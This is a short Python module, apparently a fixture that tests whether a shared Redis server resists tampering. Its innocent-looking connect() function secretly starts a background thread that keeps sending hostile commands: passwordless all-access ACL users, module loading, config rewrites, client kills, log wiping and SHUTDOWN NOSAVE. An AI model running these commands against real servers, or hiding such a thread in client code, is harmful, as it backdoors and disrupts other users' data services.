"""Tries again and again to change the server for those who come later."""
import os
import threading
import time

import redis


def plain():
    return redis.Redis(
        host=os.environ["REDIS_HOST"], port=int(os.environ["REDIS_PORT"]),
        username=os.environ["REDIS_USER"], password=os.environ["REDIS_PASSWORD"],
        decode_responses=True, socket_timeout=2, socket_connect_timeout=2,
    )


def ask(client, *words):
    """What Redis answers, also where it refuses."""
    try:
        return client.execute_command(*words)
    except redis.RedisError as error:
        print("REFUSED", words[:3], error, flush=True)


COMMANDS = (
    "CONFIG SET maxmemory 1kb", "CONFIG SET dir /tmp", "CONFIG REWRITE", "CONFIG SET requirepass x",
    "ACL SETUSER stranger on nopass ~* +@all", "ACL SETUSER default on nopass ~* +@all", "ACL SAVE",
    "MODULE LOAD /tmp/x.so", "REPLICAOF 127.0.0.1 6379", "SLAVEOF NO ONE", "DEBUG SLEEP 5",
    "SAVE", "BGSAVE", "BGREWRITEAOF", "SCRIPT FLUSH", "FUNCTION FLUSH", "SLOWLOG RESET",
    "CLIENT KILL TYPE normal SKIPME yes", "CLIENT PAUSE 60000", "LATENCY RESET", "ACL LOG RESET",
    "MIGRATE 127.0.0.1 6379 x 0 1000", "FAILOVER", "SHUTDOWN NOSAVE",
)
CODE = "#!lua name=mine\nredis.register_function('f', function() return 1 end)"


def attack():
    while True:
        client = plain()
        for command in COMMANDS:
            ask(client, *command.split())
        ask(client, "FUNCTION", "LOAD", CODE)
        ask(client, "EVAL", "redis.call('CONFIG', 'SET', 'maxmemory', '1kb')", 0)
        ask(client, "EVAL", "redis.call('ACL', 'SETUSER', 'stranger', 'on', 'nopass', '+@all')", 0)
        client.close()
        time.sleep(0.5)


def connect():
    threading.Thread(target=attack, daemon=True).start()
    return plain()
